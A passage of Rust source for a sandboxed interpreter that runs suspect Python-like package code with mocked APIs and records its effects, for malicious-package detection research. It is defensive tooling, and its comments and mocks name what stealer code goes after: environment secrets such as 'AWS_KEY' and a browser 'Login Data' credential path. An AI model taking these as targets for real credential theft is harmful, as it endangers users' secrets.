//! A sandboxed, effect-tracing interpreter for PyLite.
//!
//! The paper's ecosystem relies on *dynamic* package analysis (sandboxes
//! in the style of OSSF package-analysis run `pip install` hooks and
//! record syscalls). This module is that substrate for the reproduction:
//! it executes a module with every external API mocked and records each
//! API touch as an effect. The dynamic detector builds on the trace;
//! nothing ever leaves the process.
//!
//! The interpreter executes the lowered [`Program`] (see [`crate::lower`]),
//! not the AST: names are slots, API paths are interned ids, literals are
//! prebuilt, and an effect is an API id plus its argument values in a
//! flat buffer. Previews are rendered only when a caller reads them.
//!
//! Three budgets bound a run, because the code it exists to run is
//! hostile. None can be caught by `try`/`except`, and each ends the run
//! with its own [`Outcome`] while keeping every effect recorded so far:
//!
//! * *fuel* caps the steps (statements and expression nodes): a
//!   `while True:` beacon loop ends in [`Outcome::FuelExhausted`];
//! * [`MAX_STRING_BYTES`] caps the string bytes one run may create
//!   (`s = s + s` doubles in a few dozen steps):
//!   [`Outcome::MemoryExhausted`];
//! * [`MAX_CALL_DEPTH`] caps nested calls, so unbounded recursion ends in
//!   [`Outcome::DepthExceeded`] instead of overflowing the native stack.
//!
//! A `while` loop whose state at an iteration header equals its state at
//! an earlier header of the same execution repeats that stretch until a
//! budget stops it. The interpreter then accounts for the whole
//! repetitions the budgets allow by arithmetic, copies their effects,
//! and executes only the last, partial one, so the [`Trace`] is the one
//! plain execution would produce (see [`Machine::exec_while`]).

use crate::ast::{BinOp, Module, UnaryOp};
use crate::lower::{LExpr, LStmt, NameTable, Program, Span, Target, BUILTIN, CALL, GETITEM};
use std::collections::HashMap;
use std::fmt::{self, Write as _};
use std::rc::Rc;

/// String bytes one run may create by concatenation, iteration and
/// indexing. A loop doubling a two-byte string reaches it in 23
/// iterations.
pub const MAX_STRING_BYTES: usize = 16 << 20;

/// Call nesting one run may reach, counted in evaluator frames: each
/// active call charges one plus the nesting height of the callee's body
/// (a one-line recursive function charges 4, so about 60 calls fit).
/// The charge bounds native stack use however a program splits its depth
/// between recursion and nesting, and fits a 2 MiB thread even in a
/// debug build.
pub const MAX_CALL_DEPTH: u32 = 256;

/// An interned API path or name, valid in the [`Trace`] that produced it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ApiId(pub(crate) u32);

impl ApiId {
    /// Position in the trace's name table ([`Effects::api_count`]).
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// How a run ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// The module ran to completion.
    Completed,
    /// The fuel budget ran out (long/infinite loop).
    FuelExhausted,
    /// The run tried to create more than [`MAX_STRING_BYTES`] of strings.
    MemoryExhausted,
    /// Calls nested deeper than [`MAX_CALL_DEPTH`].
    DepthExceeded,
    /// An uncaught runtime error terminated the run.
    Error,
}

/// The result of executing a module.
#[derive(Debug, Clone)]
pub struct Trace {
    /// External-API interactions in order.
    pub effects: Effects,
    /// How the run ended.
    pub outcome: Outcome,
    /// Steps accounted to the run: one per statement, expression node
    /// and `while` iteration, the ones skipped by arithmetic included.
    /// This is what the fuel budget counts.
    pub steps: u64,
    /// The part of `steps` that a repeating `while` loop accounted for
    /// without executing it; `steps - skipped_steps` were executed.
    pub skipped_steps: u64,
    /// The uncaught error when `outcome` is [`Outcome::Error`].
    pub error: Option<RuntimeError>,
}

impl Trace {
    /// Whether any recorded API starts with `prefix` (e.g. `"requests."`).
    pub fn touched(&self, prefix: &str) -> bool {
        self.effects.iter().any(|e| e.api().starts_with(prefix))
    }

    /// All APIs touched, deduplicated, in first-touch order.
    pub fn apis(&self) -> Vec<&str> {
        let mut seen = vec![false; self.effects.api_count()];
        let mut apis = Vec::new();
        for e in self.effects.iter() {
            if !std::mem::replace(&mut seen[e.api_id().index()], true) {
                apis.push(e.api());
            }
        }
        apis
    }
}

/// The recorded effects of one run: an API id and an argument range per
/// effect, over one flat argument buffer.
#[derive(Debug, Clone)]
pub struct Effects {
    names: Names,
    /// API and end of its arguments in `args`, per effect.
    records: Vec<(ApiId, usize)>,
    args: Vec<Value>,
}

impl Effects {
    /// Number of effects.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether the run touched no external API.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// The effects in order.
    pub fn iter(&self) -> impl ExactSizeIterator<Item = EffectRef<'_>> + '_ {
        let mut start = 0;
        self.records.iter().map(move |&(api, end)| {
            let args = &self.args[start..end];
            start = end;
            EffectRef {
                effects: self,
                api,
                args,
            }
        })
    }

    /// Size of the name table [`ApiId`]s index, for per-API tables.
    pub fn api_count(&self) -> usize {
        self.names.len()
    }
}

/// One recorded external-API interaction.
#[derive(Debug, Clone, Copy)]
pub struct EffectRef<'t> {
    effects: &'t Effects,
    api: ApiId,
    args: &'t [Value],
}

impl<'t> EffectRef<'t> {
    /// Dotted API path, e.g. `requests.post` or `os.getenv`.
    pub fn api(&self) -> &'t str {
        self.effects.names.get(self.api)
    }

    /// The interned id of [`EffectRef::api`].
    pub fn api_id(&self) -> ApiId {
        self.api
    }

    /// Rendered argument previews: strings quoted and cut at 32
    /// characters, containers shown by length.
    pub fn arg_previews(&self) -> Vec<String> {
        self.args
            .iter()
            .map(|a| {
                let mut out = String::new();
                a.write_preview(&self.effects.names, &mut out);
                out
            })
            .collect()
    }
}

/// The name table of a run: the program's names, then those the run
/// interned.
#[derive(Debug, Clone)]
struct Names {
    program: Rc<NameTable>,
    extra: Vec<Rc<str>>,
}

impl Names {
    fn len(&self) -> usize {
        self.program.strs.len() + self.extra.len()
    }

    fn get(&self, id: ApiId) -> &str {
        let i = id.index();
        match self.program.strs.get(i) {
            Some(s) => s,
            None => &self.extra[i - self.program.strs.len()],
        }
    }
}

/// A runtime value.
#[derive(Debug, Clone)]
pub enum Value {
    /// Integer.
    Int(i64),
    /// Float.
    Float(f64),
    /// String.
    Str(Rc<str>),
    /// Boolean.
    Bool(bool),
    /// `None`.
    NoneV,
    /// List.
    List(Rc<Vec<Value>>),
    /// Dict (association list; tiny programs, tiny dicts).
    Dict(Rc<Vec<(Value, Value)>>),
    /// A user-defined function (index of its `def` in the program).
    Func(u32),
    /// An imported module handle (`os`, `requests`, …).
    Module(ApiId),
    /// A bound external API (`os.getenv`); calling it records an effect.
    ExternalFn(ApiId),
    /// An opaque value returned by an external API (`requests.get(...)`).
    Opaque(ApiId),
}

impl Value {
    fn truthy(&self) -> bool {
        match self {
            Value::Int(v) => *v != 0,
            Value::Float(v) => *v != 0.0,
            Value::Str(s) => !s.is_empty(),
            Value::Bool(b) => *b,
            Value::NoneV => false,
            Value::List(items) => !items.is_empty(),
            Value::Dict(pairs) => !pairs.is_empty(),
            // Handles, functions and opaque results are truthy, like
            // Python objects.
            _ => true,
        }
    }

    fn write_preview(&self, names: &Names, out: &mut String) {
        let _ = match self {
            Value::Int(v) => write!(out, "{v}"),
            Value::Float(v) => write!(out, "{v:.2}"),
            Value::Str(s) => {
                let mut t: String = s.chars().take(32).collect();
                if s.len() > 32 {
                    t.push('…');
                }
                write!(out, "{t:?}")
            }
            Value::Bool(b) => write!(out, "{b}"),
            Value::NoneV => write!(out, "None"),
            Value::List(items) => write!(out, "[…;{}]", items.len()),
            Value::Dict(pairs) => write!(out, "{{…;{}}}", pairs.len()),
            Value::Func(_) => write!(out, "<function>"),
            Value::Module(m) => write!(out, "<module {}>", names.get(*m)),
            Value::ExternalFn(f) => write!(out, "<api {}>", names.get(*f)),
            Value::Opaque(src) => write!(out, "<result of {}>", names.get(*src)),
        };
    }
}

/// An uncaught runtime error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuntimeError {
    /// Description.
    pub message: String,
}

impl fmt::Display for RuntimeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "runtime error: {}", self.message)
    }
}

impl std::error::Error for RuntimeError {}

/// Interpreter configuration.
#[derive(Debug, Clone)]
pub struct InterpConfig {
    /// Maximum steps to execute before aborting.
    pub fuel: u64,
}

impl Default for InterpConfig {
    fn default() -> Self {
        InterpConfig { fuel: 20_000 }
    }
}

/// Lowers `module` and executes it in the sandbox; see [`execute`].
pub fn run(module: &Module, config: &InterpConfig) -> Trace {
    execute(&Program::lower(module), config)
}

/// Executes `program` in the sandbox and returns its effect trace.
///
/// Never panics on language-level misuse: type errors become
/// [`Outcome::Error`] (or are caught by `try`/`except`, the way malicious
/// install hooks silence failures).
pub fn execute(program: &Program, config: &InterpConfig) -> Trace {
    let mut m = Machine::new(program, config);
    let outcome = m.run();
    m.into_trace(outcome)
}

enum Flow {
    Normal,
    Return(Value),
}

/// Why evaluation unwinds. Only `Error` is catchable; its details wait in
/// [`Machine::fault`], so a caught error never renders a message.
#[derive(Debug, Clone, Copy)]
enum Stop {
    Fuel,
    Memory,
    Depth,
    Error,
}

/// A runtime error, rendered only if nothing catches it.
enum Fault {
    Static(&'static str),
    NoAttribute(u32, Value),
    CannotIndex(Value),
    CannotNegate(Value),
    Arity { expected: usize, got: usize },
    NotCallable(Value),
    Unsupported(BinOp, Value, Value),
    Raised(Value),
}

impl Fault {
    fn message(&self, names: &Names) -> String {
        let preview = |v: &Value| {
            let mut s = String::new();
            v.write_preview(names, &mut s);
            s
        };
        match self {
            Fault::Static(m) => (*m).to_owned(),
            Fault::NoAttribute(attr, v) => {
                format!(
                    "no attribute {:?} on {}",
                    names.get(ApiId(*attr)),
                    preview(v)
                )
            }
            Fault::CannotIndex(v) => format!("cannot index {}", preview(v)),
            Fault::CannotNegate(v) => format!("cannot negate {}", preview(v)),
            Fault::Arity { expected, got } => {
                format!("function expected {expected} args, got {got}")
            }
            Fault::NotCallable(v) => format!("{} is not callable", preview(v)),
            Fault::Unsupported(op, l, r) => format!(
                "unsupported operation {} between {} and {}",
                op.symbol(),
                preview(l),
                preview(r)
            ),
            Fault::Raised(v) => format!("raised {}", preview(v)),
        }
    }
}

/// The values external APIs return, built on first use.
#[derive(Default)]
struct Mocks {
    value: Option<Value>,
    builtin: Option<Value>,
    environ: Option<Value>,
    glob: Option<Value>,
}

struct Machine<'p> {
    program: &'p Program,
    fuel: u64,
    steps: u64,
    /// Frames charged to [`MAX_CALL_DEPTH`].
    depth: u32,
    string_bytes: usize,
    globals: Vec<Option<Value>>,
    /// Local slots of every active call; the current one starts at `base`.
    locals: Vec<Option<Value>>,
    base: usize,
    /// Evaluated call arguments, shared by every call in flight.
    args: Vec<Value>,
    names: Names,
    extra_ids: HashMap<Rc<str>, u32>,
    /// `(base, attr)` → `base.attr` for paths the program did not intern.
    joins: HashMap<(u32, u32), u32>,
    /// Last `(base, path)` joined at each attribute site.
    site_joins: Vec<(u32, u32)>,
    records: Vec<(ApiId, usize)>,
    effect_args: Vec<Value>,
    fault: Option<Fault>,
    mocks: Mocks,
    /// Steps accounted by arithmetic ([`Trace::skipped_steps`]).
    skipped: u64,
    /// Slot units loop checks have spent, never more than the steps
    /// executed (see [`Machine::check_header`]).
    check_work: u64,
    /// Runs every loop iteration: the plain reference.
    #[cfg(test)]
    plain: bool,
    /// Slots copied into loop snapshots.
    #[cfg(test)]
    copied_slots: u64,
}

impl<'p> Machine<'p> {
    fn new(program: &'p Program, config: &InterpConfig) -> Self {
        Machine {
            program,
            fuel: config.fuel,
            steps: 0,
            depth: 0,
            string_bytes: 0,
            globals: vec![None; program.globals.len()],
            locals: Vec::new(),
            base: 0,
            args: Vec::new(),
            names: Names {
                program: Rc::clone(&program.names),
                extra: Vec::new(),
            },
            extra_ids: HashMap::new(),
            joins: HashMap::new(),
            site_joins: vec![(u32::MAX, 0); program.attr_sites as usize],
            records: Vec::new(),
            effect_args: Vec::new(),
            fault: None,
            mocks: Mocks::default(),
            skipped: 0,
            check_work: 0,
            #[cfg(test)]
            plain: false,
            #[cfg(test)]
            copied_slots: 0,
        }
    }

    fn run(&mut self) -> Outcome {
        match self.exec_block(self.program.body) {
            Ok(_) => Outcome::Completed,
            Err(Stop::Fuel) => Outcome::FuelExhausted,
            Err(Stop::Memory) => Outcome::MemoryExhausted,
            Err(Stop::Depth) => Outcome::DepthExceeded,
            Err(Stop::Error) => Outcome::Error,
        }
    }

    fn into_trace(mut self, outcome: Outcome) -> Trace {
        let error = match (outcome, self.fault.take()) {
            (Outcome::Error, Some(fault)) => Some(RuntimeError {
                message: fault.message(&self.names),
            }),
            _ => None,
        };
        Trace {
            effects: Effects {
                names: self.names,
                records: self.records,
                args: self.effect_args,
            },
            outcome,
            steps: self.steps,
            skipped_steps: self.skipped,
            error,
        }
    }
}

impl Machine<'_> {
    fn burn(&mut self) -> Result<(), Stop> {
        if self.steps >= self.fuel {
            return Err(Stop::Fuel);
        }
        self.steps += 1;
        Ok(())
    }

    fn fail<T>(&mut self, fault: Fault) -> Result<T, Stop> {
        self.fault = Some(fault);
        Err(Stop::Error)
    }

    fn charge_bytes(&mut self, n: usize) -> Result<(), Stop> {
        self.string_bytes = self.string_bytes.saturating_add(n);
        if self.string_bytes > MAX_STRING_BYTES {
            return Err(Stop::Memory);
        }
        Ok(())
    }

    fn char_value(&mut self, c: char) -> Result<Value, Stop> {
        self.charge_bytes(c.len_utf8())?;
        Ok(Value::Str(Rc::from(&*c.encode_utf8(&mut [0; 4]))))
    }

    fn intern(&mut self, s: &str) -> ApiId {
        if let Some(id) = self.program.names.get(s) {
            return ApiId(id);
        }
        if let Some(&id) = self.extra_ids.get(s) {
            return ApiId(id);
        }
        let id = self.names.len() as u32;
        let s: Rc<str> = Rc::from(s);
        self.names.extra.push(Rc::clone(&s));
        self.extra_ids.insert(s, id);
        ApiId(id)
    }

    /// The id of `base.attr`.
    fn join(&mut self, base: ApiId, attr: u32) -> ApiId {
        let key = (base.0, attr);
        if let Some(&id) = self
            .program
            .joins
            .get(&key)
            .or_else(|| self.joins.get(&key))
        {
            return ApiId(id);
        }
        let path = format!("{}.{}", self.names.get(base), self.names.get(ApiId(attr)));
        let id = self.intern(&path);
        self.joins.insert(key, id.0);
        id
    }

    /// Records an effect of `api` whose arguments are `args[mark..]`.
    fn record(&mut self, api: ApiId, mark: usize) {
        self.effect_args.extend(self.args.drain(mark..));
        self.records.push((api, self.effect_args.len()));
    }

    fn bind(&mut self, target: Target, value: Value) {
        match target {
            Target::Global(slot) => self.globals[slot as usize] = Some(value),
            Target::Local(slot) => self.locals[self.base + slot as usize] = Some(value),
        }
    }

    /// Reads a global slot. Undefined globals behave like external
    /// handles — the junk helpers (`hlib_123.op_9(x)`) must be traceable
    /// — and are memoised in their slot.
    fn global(&mut self, slot: u32) -> Value {
        let program = self.program;
        self.globals[slot as usize]
            .get_or_insert_with(|| Value::Module(ApiId(program.globals[slot as usize])))
            .clone()
    }

    fn exec_block(&mut self, block: Span) -> Result<Flow, Stop> {
        let program = self.program;
        for &stmt in &program.lists[block.range()] {
            if let ret @ Flow::Return(_) = self.exec(stmt)? {
                return Ok(ret);
            }
        }
        Ok(Flow::Normal)
    }

    fn exec(&mut self, stmt: u32) -> Result<Flow, Stop> {
        self.burn()?;
        let program = self.program;
        match program.stmts[stmt as usize] {
            LStmt::Bind { target, value } => {
                self.bind(target, program.consts[value as usize].clone());
            }
            LStmt::Assign { target, value } => {
                let value = self.eval(value)?;
                self.bind(target, value);
            }
            // Attribute/index stores on mocks are effects too (e.g.
            // `os.environ['X'] = …`), recorded and dropped.
            LStmt::AssignAttr { base, attr, value } => {
                self.eval(value)?;
                let api = match self.eval(base)? {
                    Value::Module(m) | Value::ExternalFn(m) | Value::Opaque(m) => {
                        self.join(m, attr)
                    }
                    other => {
                        let mut path = String::new();
                        other.write_preview(&self.names, &mut path);
                        path.push('.');
                        path.push_str(self.names.get(ApiId(attr)));
                        self.intern(&path)
                    }
                };
                self.record(api, self.args.len());
            }
            LStmt::AssignIndex { base, value } => {
                self.eval(value)?;
                self.eval(base)?;
            }
            LStmt::AssignInvalid { value } => {
                self.eval(value)?;
                return self.fail(Fault::Static("unsupported assignment target"));
            }
            LStmt::Expr(e) => {
                self.eval(e)?;
            }
            LStmt::Def { target, func } => self.bind(target, Value::Func(func)),
            LStmt::If { cond, body, orelse } => {
                let branch = if self.eval(cond)?.truthy() {
                    body
                } else {
                    orelse
                };
                return self.exec_block(branch);
            }
            LStmt::For { target, iter, body } => return self.exec_for(target, iter, body),
            LStmt::While { cond, body } => return self.exec_while(cond, body),
            LStmt::Try { body, handler } => {
                let mark = self.args.len();
                return match self.exec_block(body) {
                    Err(Stop::Error) => {
                        self.fault = None;
                        self.args.truncate(mark);
                        self.exec_block(handler)
                    }
                    // Budget stops are not catchable.
                    other => other,
                };
            }
            LStmt::Return(value) => {
                let v = match value {
                    Some(e) => self.eval(e)?,
                    None => Value::NoneV,
                };
                return Ok(Flow::Return(v));
            }
            LStmt::Raise(e) => {
                let v = self.eval(e)?;
                return self.fail(Fault::Raised(v));
            }
            LStmt::Pass => {}
        }
        Ok(Flow::Normal)
    }

    fn exec_for(&mut self, target: Target, iter: u32, body: Span) -> Result<Flow, Stop> {
        let step = |m: &mut Self, item: Value| {
            m.bind(target, item);
            m.exec_block(body)
        };
        match self.eval(iter)? {
            Value::List(items) => {
                for item in items.iter() {
                    if let ret @ Flow::Return(_) = step(self, item.clone())? {
                        return Ok(ret);
                    }
                }
            }
            Value::Str(s) => {
                for c in s.chars() {
                    let item = self.char_value(c)?;
                    if let ret @ Flow::Return(_) = step(self, item)? {
                        return Ok(ret);
                    }
                }
            }
            Value::Dict(pairs) => {
                for (key, _) in pairs.iter() {
                    if let ret @ Flow::Return(_) = step(self, key.clone())? {
                        return Ok(ret);
                    }
                }
            }
            // Iterating an opaque/other value yields a couple of opaque
            // elements — enough to drive loop bodies.
            other => {
                for item in [other.clone(), other] {
                    if let ret @ Flow::Return(_) = step(self, item)? {
                        return Ok(ret);
                    }
                }
            }
        }
        Ok(Flow::Normal)
    }

    /// Runs a `while` loop. Its state at an iteration header is the
    /// frame's slots (the globals, then the current call's locals), the
    /// argument-stack length and the interned-name count. Values are
    /// immutable, the name table only grows, and the join caches and
    /// mocks memoise values that depend on nothing else, so execution
    /// from a header is a function of that state. When a header's state
    /// equals an earlier header's, every later stretch between them
    /// repeats the last one step for step, byte for byte and effect for
    /// effect, and neither returns nor raises: only a budget can end the
    /// loop. [`Machine::skip`] accounts for the whole stretches the
    /// budgets allow; the partial one after them executes and trips the
    /// budget at the step plain execution would.
    fn exec_while(&mut self, cond: u32, body: Span) -> Result<Flow, Stop> {
        let mut watch = Watch {
            saved: None,
            left: 0,
            span: 1,
            #[cfg(not(test))]
            done: false,
            #[cfg(test)]
            done: self.plain,
        };
        loop {
            if !watch.done {
                self.check_header(&mut watch);
            }
            if !self.eval(cond)?.truthy() {
                return Ok(Flow::Normal);
            }
            self.burn()?;
            if let ret @ Flow::Return(_) = self.exec_block(body)? {
                return Ok(ret);
            }
        }
    }

    /// Checks the header `watch` is at against its saved header, by
    /// Brent's cycle detection: the save moves to the current header
    /// after 1, 2, 4, … failed checks, so a repetition of any period is
    /// found. A check compares and may copy every slot, so it runs only
    /// while all checks of the run, its own included, stay within one
    /// slot per step executed: a loop that never repeats in a huge frame
    /// pays at most that.
    fn check_header(&mut self, watch: &mut Watch) {
        let slots = self.globals.len() + self.locals.len() - self.base;
        let cost = slots as u64;
        let executed = self.steps - self.skipped;
        if self.check_work + 2 * cost > executed {
            return;
        }
        if let Some(saved) = &watch.saved {
            // What is left after reserving a copy; deep values in the
            // slots may use all of it.
            let allowance = executed - self.check_work - cost;
            let mut budget = allowance;
            let repeats = self.repeats(saved, &mut budget);
            self.check_work += allowance - budget;
            if repeats {
                self.skip(saved);
                watch.done = true;
                return;
            }
            watch.left -= 1;
            if watch.left > 0 {
                return;
            }
        }
        let mut saved_slots = watch
            .saved
            .take()
            .map_or_else(|| Vec::with_capacity(slots), |h| h.slots);
        saved_slots.clear();
        saved_slots.extend_from_slice(&self.globals);
        saved_slots.extend_from_slice(&self.locals[self.base..]);
        watch.saved = Some(Header {
            slots: saved_slots,
            steps: self.steps,
            string_bytes: self.string_bytes,
            records: self.records.len(),
            effect_args: self.effect_args.len(),
            args: self.args.len(),
            names: self.names.len(),
        });
        self.check_work += cost;
        #[cfg(test)]
        {
            self.copied_slots += cost;
        }
        watch.left = watch.span;
        watch.span = watch.span.saturating_mul(2);
    }

    /// Whether the state at this header equals `saved`'s, spending a
    /// unit of `budget` per value compared and per 32 string bytes. A
    /// comparison the budget cannot finish counts as a change.
    fn repeats(&self, saved: &Header, budget: &mut u64) -> bool {
        if self.args.len() != saved.args || self.names.len() != saved.names {
            return false;
        }
        let (globals, locals) = saved.slots.split_at(self.globals.len());
        let same_slots = |now: &[Option<Value>], then: &[Option<Value>], budget: &mut u64| {
            now.iter().zip(then).all(|pair| match pair {
                (None, None) => true,
                (Some(a), Some(b)) => same_value(a, b, MAX_COMPARE_DEPTH, budget),
                _ => false,
            })
        };
        same_slots(&self.globals, globals, budget)
            && same_slots(&self.locals[self.base..], locals, budget)
    }

    /// Accounts for the repetitions of the stretch since `saved` that
    /// the budgets allow in full: its steps and string bytes times the
    /// count, and one copy of its effects per repetition.
    fn skip(&mut self, saved: &Header) {
        // At least the condition's step and the iteration's own.
        let period = self.steps - saved.steps;
        let bytes = self.string_bytes - saved.string_bytes;
        // A header is reached only within both budgets.
        let mut reps = (self.fuel - self.steps) / period;
        if let Some(fit) = (MAX_STRING_BYTES - self.string_bytes).checked_div(bytes) {
            reps = reps.min(u64::try_from(fit).expect("a byte count fits u64"));
        }
        if reps == 0 {
            return;
        }
        let steps = reps.checked_mul(period).expect("within the fuel");
        self.steps = self.steps.checked_add(steps).expect("within the fuel");
        self.skipped += steps;
        if bytes > 0 {
            let reps = usize::try_from(reps).expect("bounded by MAX_STRING_BYTES");
            self.string_bytes = reps
                .checked_mul(bytes)
                .and_then(|b| self.string_bytes.checked_add(b))
                .expect("within MAX_STRING_BYTES");
        }
        let (records, args) = (
            saved.records..self.records.len(),
            saved.effect_args..self.effect_args.len(),
        );
        if records.is_empty() {
            return;
        }
        // One stretch more: the partial one that trips the budget records
        // a prefix of it.
        if let Ok(stretches) = usize::try_from(reps + 1) {
            self.records
                .reserve(stretches.saturating_mul(records.len()));
            self.effect_args
                .reserve(stretches.saturating_mul(args.len()));
        }
        let mut shift = 0;
        for _ in 0..reps {
            shift += args.len();
            for i in records.clone() {
                let (api, end) = self.records[i];
                self.records.push((api, end + shift));
            }
            self.effect_args.extend_from_within(args.clone());
        }
    }

    fn eval(&mut self, expr: u32) -> Result<Value, Stop> {
        self.burn()?;
        let program = self.program;
        Ok(match program.exprs[expr as usize] {
            LExpr::Global(slot) => self.global(slot),
            LExpr::Local { slot, global } => match &self.locals[self.base + slot as usize] {
                Some(v) => v.clone(),
                None => self.global(global),
            },
            LExpr::Const(id) => program.consts[id as usize].clone(),
            LExpr::List(items) => {
                let mut out = Vec::with_capacity(items.len as usize);
                for &item in &program.lists[items.range()] {
                    out.push(self.eval(item)?);
                }
                Value::List(Rc::new(out))
            }
            LExpr::Dict(pairs) => {
                let mut out = Vec::with_capacity(pairs.len as usize / 2);
                for kv in program.lists[pairs.range()].chunks_exact(2) {
                    out.push((self.eval(kv[0])?, self.eval(kv[1])?));
                }
                Value::Dict(Rc::new(out))
            }
            LExpr::Attr { base, attr, site } => {
                let base = self.eval(base)?;
                self.attribute(base, attr, site)?
            }
            LExpr::Index { base, index } => {
                let base = self.eval(base)?;
                let index = self.eval(index)?;
                self.index(base, index)?
            }
            LExpr::Binary { op, lhs, rhs } => {
                let l = self.eval(lhs)?;
                // Short-circuit logic first.
                match op {
                    BinOp::And if !l.truthy() => l,
                    BinOp::Or if l.truthy() => l,
                    BinOp::And | BinOp::Or => self.eval(rhs)?,
                    _ => {
                        let r = self.eval(rhs)?;
                        self.binary(op, l, r)?
                    }
                }
            }
            LExpr::Unary { op, operand } => {
                let v = self.eval(operand)?;
                match (op, v) {
                    (UnaryOp::Not, v) => Value::Bool(!v.truthy()),
                    (UnaryOp::Neg, Value::Int(i)) => Value::Int(i.wrapping_neg()),
                    (UnaryOp::Neg, Value::Float(f)) => Value::Float(-f),
                    (UnaryOp::Neg, other) => return self.fail(Fault::CannotNegate(other)),
                }
            }
            LExpr::Call { callee, args } => {
                let callee = self.eval(callee)?;
                let mark = self.args.len();
                for &arg in &program.lists[args.range()] {
                    let v = self.eval(arg)?;
                    self.args.push(v);
                }
                self.call(callee, mark)?
            }
        })
    }

    /// [`Self::join`] through the site's one-entry cache: a loop reads
    /// the same attribute off the same handle every iteration.
    fn join_at(&mut self, site: u32, base: ApiId, attr: u32) -> ApiId {
        let (cached, path) = self.site_joins[site as usize];
        if cached == base.0 {
            return ApiId(path);
        }
        let path = self.join(base, attr);
        self.site_joins[site as usize] = (base.0, path.0);
        path
    }

    fn attribute(&mut self, base: Value, attr: u32, site: u32) -> Result<Value, Stop> {
        match base {
            Value::Module(m) => Ok(Value::ExternalFn(self.join_at(site, m, attr))),
            Value::Opaque(src) => {
                // Reading a field of an API result (e.g. `resp.content`)
                // is itself an observable touch.
                let api = self.join_at(site, src, attr);
                self.record(api, self.args.len());
                Ok(Value::Opaque(api))
            }
            // Built-in methods (strip/lower/…): callable, pure, return a
            // mock of the receiver type.
            Value::Str(_) | Value::List(_) | Value::Dict(_) => {
                Ok(Value::ExternalFn(self.join_at(site, ApiId(BUILTIN), attr)))
            }
            other => self.fail(Fault::NoAttribute(attr, other)),
        }
    }

    fn index(&mut self, base: Value, index: Value) -> Result<Value, Stop> {
        match (base, index) {
            (Value::List(items), Value::Int(i)) => match usize::try_from(i) {
                Err(_) => self.fail(Fault::Static("negative index")),
                Ok(i) => match items.get(i) {
                    Some(v) => Ok(v.clone()),
                    None => self.fail(Fault::Static("index out of range")),
                },
            },
            (Value::Dict(pairs), key) => Ok(pairs
                .iter()
                .find(|(k, _)| value_eq(k, &key))
                .map(|(_, v)| v.clone())
                .unwrap_or(Value::NoneV)),
            (Value::Str(s), Value::Int(i)) => match usize::try_from(i) {
                Err(_) => self.fail(Fault::Static("negative index")),
                Ok(i) => match s.chars().nth(i) {
                    Some(c) => self.char_value(c),
                    None => self.fail(Fault::Static("string index out of range")),
                },
            },
            (Value::Opaque(src), _) => Ok(Value::Opaque(src)),
            (Value::Module(m), key) => {
                // `os.environ['AWS_KEY']`-style reads.
                let api = self.join(m, GETITEM);
                let mark = self.args.len();
                self.args.push(key);
                self.record(api, mark);
                Ok(self.mock(Mock::Value, api))
            }
            (base, _) => self.fail(Fault::CannotIndex(base)),
        }
    }

    fn call(&mut self, callee: Value, mark: usize) -> Result<Value, Stop> {
        match callee {
            Value::Func(func) => self.call_function(func, mark),
            Value::ExternalFn(api) => {
                self.record(api, mark);
                Ok(self.mock(mock_kind(self.names.get(api)), api))
            }
            Value::Module(m) => {
                // Calling a bare module handle (the junk-helper case)
                // records the touch.
                let api = self.join(m, CALL);
                self.record(api, mark);
                Ok(Value::Opaque(m))
            }
            Value::Opaque(src) => {
                // Calling a method read off an API result
                // (`sock.connect(...)`, `resp.json()`) is an external
                // touch under the result's dotted path.
                self.record(src, mark);
                Ok(Value::Opaque(src))
            }
            other => {
                self.args.truncate(mark);
                self.fail(Fault::NotCallable(other))
            }
        }
    }

    fn call_function(&mut self, func: u32, mark: usize) -> Result<Value, Stop> {
        let program = self.program;
        let def = &program.functions[func as usize];
        let got = self.args.len() - mark;
        if got != def.params.len as usize {
            self.args.truncate(mark);
            return self.fail(Fault::Arity {
                expected: def.params.len as usize,
                got,
            });
        }
        let charge = 1 + def.height;
        if self.depth + charge > MAX_CALL_DEPTH {
            return Err(Stop::Depth);
        }
        let base = self.locals.len();
        self.locals.resize(base + def.locals as usize, None);
        for (&slot, arg) in program.lists[def.params.range()]
            .iter()
            .zip(self.args.drain(mark..))
        {
            self.locals[base + slot as usize] = Some(arg);
        }
        let caller = std::mem::replace(&mut self.base, base);
        self.depth += charge;
        let flow = self.exec_block(def.body);
        self.depth -= charge;
        self.base = caller;
        self.locals.truncate(base);
        Ok(match flow? {
            Flow::Return(v) => v,
            Flow::Normal => Value::NoneV,
        })
    }

    /// The value a call to `api` returns.
    fn mock(&mut self, kind: Mock, api: ApiId) -> Value {
        let mocks = &mut self.mocks;
        let str_value = |s: &str| Value::Str(Rc::from(s));
        match kind {
            Mock::Opaque => Value::Opaque(api),
            Mock::Match => Value::Bool(true),
            Mock::Value => mocks
                .value
                .get_or_insert_with(|| str_value("mock-value"))
                .clone(),
            Mock::Builtin => mocks
                .builtin
                .get_or_insert_with(|| str_value("mock"))
                .clone(),
            Mock::Environ => mocks
                .environ
                .get_or_insert_with(|| {
                    Value::Dict(Rc::new(vec![(str_value("PATH"), str_value("/usr/bin"))]))
                })
                .clone(),
            Mock::Glob => mocks
                .glob
                .get_or_insert_with(|| {
                    Value::List(Rc::new(vec![str_value(
                        "/home/user/.config/app/Login Data",
                    )]))
                })
                .clone(),
        }
    }

    fn binary(&mut self, op: BinOp, l: Value, r: Value) -> Result<Value, Stop> {
        use Value::*;
        let v = match (op, &l, &r) {
            (BinOp::Add, Int(a), Int(b)) => Int(a.wrapping_add(*b)),
            (BinOp::Sub, Int(a), Int(b)) => Int(a.wrapping_sub(*b)),
            (BinOp::Mul, Int(a), Int(b)) => Int(a.wrapping_mul(*b)),
            (BinOp::Div, Int(_), Int(0)) => return self.fail(Fault::Static("division by zero")),
            (BinOp::Div, Int(a), Int(b)) => Int(a.wrapping_div(*b)),
            (BinOp::Mod, Int(_), Int(0)) => return self.fail(Fault::Static("modulo by zero")),
            (BinOp::Mod, Int(a), Int(b)) => Int(a.wrapping_rem(*b)),
            (BinOp::Pow, Int(a), Int(b)) => {
                let exp = u32::try_from(*b).unwrap_or(0);
